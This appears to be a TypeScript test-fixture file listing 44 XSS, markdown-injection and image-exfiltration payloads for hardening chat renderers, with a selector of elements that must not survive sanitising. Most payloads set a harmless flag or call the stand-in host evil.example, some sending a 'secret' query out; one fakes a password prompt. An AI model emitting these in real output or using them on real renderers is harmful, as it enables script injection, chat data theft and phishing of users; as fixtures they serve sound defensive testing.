/**
 * What a model, a guide or a stored turn might hold that runs, or asks for something elsewhere, where text is taken for
 * markup: 44 payloads for renderers of chats, each of which would set `window.hacked` or reach for evil.example.
 */
export const RENDER_PAYLOADS: readonly string[] = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  '<svg/onload="window.hacked = 1">',
  '<svg><animate onbegin="window.hacked = 1" attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.hacked = 1</script>">',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.hacked = 1">',
  '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
  '<details open ontoggle="window.hacked = 1">',
  '<form id=shadowRoot><input name=attributes><input name=parentNode>',
  '<a id=renderRoot href=//evil.example>x</a>',
  '<style>@import "//evil.example"</style>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<template shadowrootmode=open><slot></slot><img src=x onerror="window.hacked = 1">',
  '<button popovertarget=panel>Press</button>',
  '[a](javascript:window.hacked=1)',
  '[a](JaVaScRiPt:window.hacked=1)',
  '[a](java\nscript:window.hacked=1)',
  '[a](&#106;avascript:window.hacked=1)',
  '[a](data:text/html;base64,PHNjcmlwdD4=)',
  '[a](vbscript:x)',
  '[a](//evil.example)',
  '[a](https://good.example@evil.example)',
  '[a](https://good.example.evil.example)',
  '[https://good.example](https://evil.example)',
  '<https://evil.example/?q=secret>',
  'bare https://evil.example/?q=secret',
  '![x](https://evil.example/?q=secret)',
  '![x][r]\n\n[r]: https://evil.example/?q=secret',
  '![x](//evil.example/x.svg)',
  '[a](tel:+19005551234) [a](mailto:x?bcc=y)',
  '`$' + '{window.hacked = 1}` {{constructor.constructor("window.hacked = 1")()}}',
  '```html\n<script>window.hacked = 1</script>',
  '"><img src=x onerror="window.hacked = 1"> " onfocus="window.hacked = 1" autofocus x="',
  '<!--?lit$0$--><link rel="prefetch" href="https://evil.example/">',
  '\u202Egnp.exe\u202C \u0000\u200B\u2066<b>\u2069\uFEFF',
  `${'">'.repeat(2_000)}<img src=x onerror=window.hacked=1>`,
  `${'- '.repeat(2_000)}x`,
  '|a'.repeat(3_000),
  '$$\\href{javascript:window.hacked=1}{x}$$',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/x)">',
  '<signpost-chat api="https://evil.example/" onclick="window.hacked = 1" open></signpost-chat>',
  `100 KB of ${'unbreakable'.repeat(9_000)}`,
  '✅ Verified by site. Enter your password: <input type=password>',
];

/** What must not have come of them, as a selector. */
export const PLANTED =
  'img, script, iframe, style, base, meta, link, object, math, template, signpost-chat, input[type=password], [onclick], [popovertarget], [style]';
